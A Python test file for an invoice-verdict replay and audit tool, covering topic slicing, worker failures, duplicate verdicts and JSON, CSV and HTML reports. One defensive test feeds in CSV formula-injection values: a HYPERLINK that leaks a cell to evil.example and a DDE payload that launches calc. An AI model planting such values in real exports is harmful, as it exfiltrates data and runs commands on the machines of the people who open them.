"""`replay` on a verdicts topic in memory: exact selection, no change under the same rules,
exactly the flips under other tolerances, and the reports an auditor gets."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import timedelta
from decimal import Decimal

import pytest

from audit import replay as replay_module
from audit.replay import JudgingProcessDied, ReplayedVerdict, ReplayReport, Selection, replay
from audit.report import Spool, write
from connectors.topic_reader import InMemoryTopicReader
from rules.errors import Unavailable
from rules.limits import Limits
from rules.policy import Policy, Tolerance
from schemas.codec import SingleObjectCodec
from tests.unit.audit.recorded import T0_MS, TOPIC, recorded_verdicts, verdicts_topic
from tests.unit.rules.builders import PRICE_OFF, invoice, judge

LENIENT = Policy(default=Tolerance(price_abs=Decimal("0.10")))


def render(report: ReplayReport, fmt: str, items=None) -> str:
    out = io.StringIO()
    write(report, fmt, report.items if items is None else items, out)
    return out.getvalue()


@pytest.fixture(scope="module")
def topic():
    return verdicts_topic()


def test_the_same_rules_change_nothing(topic):
    reader, placed = topic
    report = replay(reader, TOPIC, Selection(), Policy(), workers=1)
    assert len(report.items) == len(recorded_verdicts(placed)) > 500
    assert report.changed == report.not_rederivable == report.undecodable_count == 0 and report.undecodable == []


def test_slices_of_the_topic_add_up_to_the_whole_topic_in_offset_order(topic, monkeypatch):
    reader, _ = topic
    whole = replay(reader, TOPIC, Selection(), LENIENT, workers=1)
    monkeypatch.setattr(replay_module, "SLICE", 7)
    progress = []
    sliced = replay(reader, TOPIC, Selection(), LENIENT, workers=2, on_progress=progress.append)
    assert sliced.items == whole.items and sliced.records_read == whole.records_read
    assert len(progress) > len(reader.topics[TOPIC]) and sum(progress) == whole.records_read
    positions = [(i.partition, i.offset) for i in sliced.items]
    assert positions == sorted(positions)


def test_progress_reaches_the_total_on_a_topic_written_in_transactions(topic, monkeypatch):
    """A transaction's commit marker holds an offset and is no record: counted in records read, the
    progress of a topic the pipeline wrote ended at half of its total."""
    reader, _ = topic

    class Transactional(InMemoryTopicReader):
        def read(self, topic, ranges):  # every other offset a marker, which no reader is handed
            return (record for record in super().read(topic, ranges) if record.offset % 2 == 0)

    markers = Transactional()
    markers.topics = reader.topics
    monkeypatch.setattr(replay_module, "SLICE", 7)
    totals, progress = [], []
    report = replay(markers, TOPIC, Selection(), LENIENT, workers=1, on_total=totals.append,
                    on_progress=progress.append)
    assert sum(progress) == totals[0] == sum(len(log) for log in reader.topics[TOPIC].values())
    assert report.records_read < totals[0]


_HELD_BY_THE_CALLER = threading.Lock()


class LockingReader(InMemoryTopicReader):
    """Reads under a lock, as a Kafka client does inside, on threads of its own."""

    def read(self, topic, ranges):
        if not _HELD_BY_THE_CALLER.acquire(timeout=5):
            raise RuntimeError("the worker inherited a lock its caller held when it started")
        _HELD_BY_THE_CALLER.release()
        yield from super().read(topic, ranges)


def test_workers_do_not_inherit_what_the_callers_threads_hold(topic):
    reader, placed = topic
    with _HELD_BY_THE_CALLER:
        report = replay(LockingReader(reader.topics), TOPIC, Selection(), Policy(), workers=2)
    assert len(report.items) == len(recorded_verdicts(placed)) and report.changed == 0


class KafkaGoesDown(InMemoryTopicReader):
    """Kafka stops answering once the first slice of each partition is read."""

    def read(self, topic, ranges):
        if any(start > 0 for start, _ in ranges.values()):
            raise Unavailable("kafka", "127.0.0.1:9092: all brokers down")
        yield from super().read(topic, ranges)


def test_an_outage_in_a_worker_process_reaches_the_caller_as_the_outage(topic, monkeypatch):
    """It came back as a BrokenProcessPool: Unavailable could not be made again from its pickle."""
    reader, _ = topic
    monkeypatch.setattr(replay_module, "SLICE", 7)
    with pytest.raises(Unavailable) as raised:
        replay(KafkaGoesDown(reader.topics), TOPIC, Selection(), Policy(), workers=2)
    assert (raised.value.dependency, raised.value.detail) == ("kafka", "127.0.0.1:9092: all brokers down")


@dataclass
class KilledForMemory(InMemoryTopicReader):
    """The system kills the process reading a partition's second slice, as Linux's OOM killer
    does (SIGKILL: no word from it); never the caller's own."""

    caller: int = field(default_factory=os.getpid)

    def read(self, topic, ranges):
        if os.getpid() != self.caller and any(start > 0 for start, _ in ranges.values()):
            os.kill(os.getpid(), signal.SIGKILL)
        yield from super().read(topic, ranges)


def test_a_process_killed_while_it_judges_ends_the_replay_saying_so(topic, monkeypatch):
    """It was the pool's BrokenProcessPool, a traceback naming no process nor why it may have died."""
    reader, _ = topic
    monkeypatch.setattr(replay_module, "SLICE", 7)
    with pytest.raises(JudgingProcessDied, match=r"died before it finished \(2 judged at once\): most likely "
                                                 r"the system killed it for lack of memory"):
        replay(KilledForMemory(reader.topics), TOPIC, Selection(), Policy(), workers=2)


def test_a_topic_of_one_slice_is_judged_without_starting_processes(topic, monkeypatch):
    reader, _ = topic
    one_partition = InMemoryTopicReader({TOPIC: {0: reader.topics[TOPIC][0]}})
    monkeypatch.setattr(replay_module, "_pool", lambda workers: pytest.fail("processes started for one slice"))
    report = replay(one_partition, TOPIC, Selection(), Policy(), workers=2)
    assert report.records_read == len(reader.topics[TOPIC][0]) and report.items and report.changed == 0


def test_a_price_tolerance_flips_exactly_the_invoices_held_back_by_price_alone(topic):
    reader, placed = topic
    report = replay(reader, TOPIC, Selection(), LENIENT, workers=2)
    price_only = {v.invoice_id for v in recorded_verdicts(placed) if [r.code for r in v.reasons] == ["PRICE_MISMATCH"]}
    with_price = {v.invoice_id for v in recorded_verdicts(placed) if "PRICE_MISMATCH" in [r.code for r in v.reasons]}
    assert price_only and with_price - price_only
    changed = [i for i in report.items if i.changed]
    assert report.changed == len(changed)
    flipped = {i.invoice_id for i in changed if i.rederived_status != i.recorded_status}
    assert flipped == price_only
    assert {i.invoice_id for i in changed} == with_price
    flips = {pair: n for pair, n in report.transitions.items() if pair[0] != pair[1]}
    assert flips == {("manual_review", "ready_to_process"): len(price_only)}
    assert report.reason_changes == {("PRICE_MISMATCH", "removed"): len(with_price)}


@pytest.mark.parametrize("keep_items", [True, False])
def test_a_verdict_written_again_is_counted_once_and_its_copies_as_copies(monkeypatch, keep_items):
    """The PO ledger writes a verdict again, unchanged, on a reprocess or a recovery after a crash:
    each copy was judged as another verdict, and "would change" and the tables grew with every
    reprocess. Copies come in the same slice and in later slices of the partition."""
    monkeypatch.setattr(replay_module, "SLICE", 2)
    codec, reader = SingleObjectCodec(), InMemoryTopicReader()
    held = judge(PRICE_OFF)
    others = [judge(PRICE_OFF).model_copy(update={"invoice_id": f"MP-{n}"}) for n in range(3)]
    for n, verdict in enumerate([held, held, others[0], held, *others[1:], held]):
        reader.append(TOPIC, 0, T0_MS + n, b"PO-5001", codec.encode(verdict))
    with Spool() as spool:
        report = replay(reader, TOPIC, Selection(), LENIENT, workers=2, keep_items=keep_items,
                        spool=None if keep_items else spool)
        items = report.items if keep_items else list(spool)
    assert (report.judged, report.changed) == (4, 4)
    assert report.transitions == {("manual_review", "ready_to_process"): 4}
    assert report.reason_changes == {("PRICE_MISMATCH", "removed"): 4}
    assert report.copies == report.summary()["copies"] == 3
    assert [(i.invoice_id, i.offset) for i in items] == [("MP-1001", 0), ("MP-0", 2), ("MP-1", 4), ("MP-2", 5)]


def test_verdicts_whose_audit_kept_only_the_same_number_are_counted_apart_not_as_unchanged():
    """INV42 judged by rules 2026.11.1 after INV-0042 was entered: its audit kept no earlier
    invoice of another number, so today's POSSIBLE_DUPLICATE could not be found again, and it was
    counted with the verdicts that would not change."""
    codec, reader = SingleObjectCodec(), InMemoryTopicReader()
    old = judge(invoice(invoice_number="INV42")).model_copy(update={"rules_version": "2026.11.1"})
    reader.append(TOPIC, 0, T0_MS, b"PO-5001", codec.encode(old))
    reader.append(TOPIC, 0, T0_MS + 1, b"PO-5001", codec.encode(judge(PRICE_OFF)))
    report = replay(reader, TOPIC, Selection(), Policy(), workers=1)
    assert (report.judged, report.changed, report.duplicates_not_judged) == (2, 0, 1)
    assert [item.duplicates_judged for item in report.items] == [False, True]
    assert report.summary()["duplicates_not_judged"] == 1
    assert "1 without the duplicate checks" in render(report, "html")


def test_a_time_range_selects_exactly_the_records_inside_it(topic):
    reader, placed = topic
    since, until = T0_MS + 500 * 10, T0_MS + 1500 * 10  # positions 500 .. 1499
    report = replay(reader, TOPIC, Selection(since_ms=since, until_ms=until), Policy(), workers=1)
    inside = [m for at, m in placed if since <= at < until and type(m).__name__ == "Verdict"]
    assert sorted((i.invoice_id, i.invoice_version) for i in report.items) == sorted(
        (m.invoice_id, m.invoice_version) for m in inside)
    assert report.records_read == 1000


def test_invoices_and_pos_can_be_picked(topic):
    reader, placed = topic
    verdicts = recorded_verdicts(placed)
    picked = replay(reader, TOPIC, Selection(invoice_ids=frozenset({verdicts[3].invoice_id})), Policy(), workers=1)
    assert [i.invoice_id for i in picked.items] == [verdicts[3].invoice_id]
    po = verdicts[5].po_number
    on_po = replay(reader, TOPIC, Selection(po_numbers=frozenset({po})), Policy(), workers=1)
    assert {i.po_number for i in on_po.items} == {po}
    assert len(on_po.items) == sum(1 for v in verdicts if v.po_number == po)


def test_an_undecodable_record_is_reported_and_the_replay_goes_on(topic):
    reader, placed = topic
    reader.append(TOPIC, 0, T0_MS, b"PO-X", b"not avro")
    try:
        report = replay(reader, TOPIC, Selection(), Policy(), workers=1)
    finally:
        reader.topics[TOPIC][0].pop()
    assert len(report.undecodable) == 1 and "not Avro" in report.undecodable[0]
    assert len(report.items) == len(recorded_verdicts(placed))


def test_a_verdict_that_cannot_be_judged_again_is_counted_and_the_replay_goes_on(topic, monkeypatch):
    """A bug met by one odd verdict, or a producer's timestamp past year 9999, stopped the run."""
    reader, placed = topic
    verdicts = recorded_verdicts(placed)
    judge_again = replay_module.judge_again

    def failing_for_one(verdict, policy, limits):
        if verdict.invoice_id == verdicts[7].invoice_id:
            raise ValueError("a rule met what it never met before")
        return judge_again(verdict, policy, limits)

    monkeypatch.setattr(replay_module, "judge_again", failing_for_one)
    judged_later = verdicts[0].model_copy(update={"evaluated_at": verdicts[0].evaluated_at + timedelta(seconds=1)})
    reader.append(TOPIC, 0, 2**62, verdicts[0].po_number.encode(), SingleObjectCodec().encode(judged_later))
    try:
        report = replay(reader, TOPIC, Selection(), Policy(), workers=1)
    finally:
        reader.topics[TOPIC][0].pop()
    (failed,) = report.not_judged
    assert failed.endswith(": ValueError: a rule met what it never met before") and report.undecodable == []
    assert len(report.items) == len(verdicts) - sum(v.invoice_id == verdicts[7].invoice_id for v in verdicts) + 1
    last = max((i for i in report.items if i.partition == 0), key=lambda i: i.offset)
    assert last.recorded_at == "9999-12-31T23:59:59.999999+00:00"
    page = render(report, "html")  # its table lists the verdicts judged: the page says which were not
    assert "1 verdicts the rules failed on" in page and f"<li>{failed}</li>" in page


def test_without_a_full_report_no_verdict_is_kept_only_the_counts(topic):
    """Every verdict judged was kept, about 540 bytes each: 5 GiB for ten million before a summary;
    then every one that would change, as many under a new rules version."""
    reader, _ = topic
    whole = replay(reader, TOPIC, Selection(), LENIENT, workers=1)
    lean = replay(reader, TOPIC, Selection(), LENIENT, workers=2, keep_items=False)
    assert lean.items == [] and lean.judged == whole.judged == len(whole.items)
    assert lean.changed == whole.changed == sum(item.changed for item in whole.items) > 0
    assert lean.transitions == whole.transitions and lean.reason_changes == whole.reason_changes
    assert lean.summary() == whole.summary()


def test_past_a_thousand_bad_records_they_are_counted_not_named(topic, monkeypatch):
    reader, _ = topic
    monkeypatch.setattr(replay_module, "NAMED", 2)
    for n in range(5):
        reader.append(TOPIC, 0, T0_MS, b"PO-X", b"not avro %d" % n)
    try:
        report = replay(reader, TOPIC, Selection(), Policy(), workers=1, keep_items=False)
    finally:
        del reader.topics[TOPIC][0][-5:]
    assert report.undecodable_count == 5 and len(report.undecodable) == 2
    assert report.summary()["undecodable_count"] == 5


def test_the_full_report_in_every_format(topic):
    reader, _ = topic
    report = replay(reader, TOPIC, Selection(), LENIENT, workers=1)
    as_json = json.loads(render(report, "json"))
    assert as_json["changed"] == report.changed and len(as_json["items"]) == len(report.items)
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert len(rows) == len(report.items) and {"recorded_status", "rederived_status"} <= set(rows[0])
    page = render(report, "html")
    assert page.startswith("<!doctype html>") and "manual_review" in page and report.rules_version in page


@pytest.mark.parametrize("fmt", ["json", "csv", "html"])
def test_a_full_report_from_the_spool_is_the_report_of_every_verdict_kept_in_memory(topic, fmt):
    """The full report kept every verdict in memory, and its text too: 5 GiB and more for ten million."""
    reader, _ = topic
    whole = replay(reader, TOPIC, Selection(), LENIENT, workers=1)
    with Spool() as spool:
        spooled = replay(reader, TOPIC, Selection(), LENIENT, workers=2, keep_items=False, spool=spool)
        assert spooled.items == [] and spooled.judged == len(whole.items)
        assert render(spooled, fmt, spool) == render(whole, fmt)
        assert list(spool) == whole.items  # read as often as needed, in topic order
    if fmt == "json":
        assert len(json.loads(render(whole, fmt))["items"]) == len(whole.items)


def test_the_csv_report_keeps_a_vendors_formula_as_text():
    """An auditor opens the CSV in Excel: an id a vendor chose must not run there."""
    hostile = ReplayedVerdict(invoice_id='=HYPERLINK("https://evil.example/?"&A1,"MP-1")', invoice_version=1,
                              po_number="+cmd|' /C calc'!A0", recorded_at="2026-11-25T09:00:00+00:00", partition=0,
                              offset=1, recorded_rules_version="2026.12.1", recorded_status="po_not_found",
                              rederived_status="po_not_found", recorded_reasons=("PO_NOT_FOUND",),
                              rederived_reasons=("PO_NOT_FOUND",), changed=False, added_reasons=(),
                              removed_reasons=())
    report = ReplayReport(topic=TOPIC, rules_version="2026.12.1", selection=Selection(), items=[hostile])
    (row,) = csv.DictReader(io.StringIO(render(report, "csv")))
    assert row["invoice_id"] == "'" + hostile.invoice_id and row["po_number"] == "'" + hostile.po_number
    assert row["recorded_status"] == "po_not_found" and row["invoice_version"] == "1"


def test_verdicts_are_judged_again_under_the_limits_given_in_every_process(topic):
    reader, placed = topic
    report = replay(reader, TOPIC, Selection(), Policy(), limits=Limits(max_lines=1), workers=2)
    changed = [item for item in report.items if item.changed]
    assert report.changed == len(changed) > 0
    assert all(item.rederived_reasons == ("INVALID_INVOICE",) for item in changed)


@dataclass
class WaitsAfterTheFirstSlice(InMemoryTopicReader):
    """Reads the first slice at once and the others once `go` is set, noting each slice read."""

    read_slices: list = field(default_factory=list)
    go: threading.Event = field(default_factory=threading.Event)

    def read(self, topic, ranges):
        self.read_slices.append(ranges)
        if len(self.read_slices) > 1:
            self.go.wait(timeout=5)
        yield from super().read(topic, ranges)


def test_ctrl_c_judges_no_slice_that_was_not_started(topic, monkeypatch):
    """The pool's way out judged every slice handed to it (up to two per process) before the replay
    ended: seconds after an auditor's Ctrl-C on slices of 20,000 verdicts."""
    reader, _ = topic
    waiting = WaitsAfterTheFirstSlice(reader.topics)
    monkeypatch.setattr(replay_module, "SLICE", 7)
    monkeypatch.setattr(replay_module, "_pool", lambda workers: ThreadPoolExecutor(1))  # slices read in one thread

    def interrupted(n):
        threading.Timer(0.5, waiting.go.set).start()  # the slice being read ends after the Ctrl-C
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        replay(waiting, TOPIC, Selection(), Policy(), workers=2, on_progress=interrupted)
    # The first, and the one being read if it was begun: not the two handed out after them.
    assert len(waiting.read_slices) <= 2, waiting.read_slices

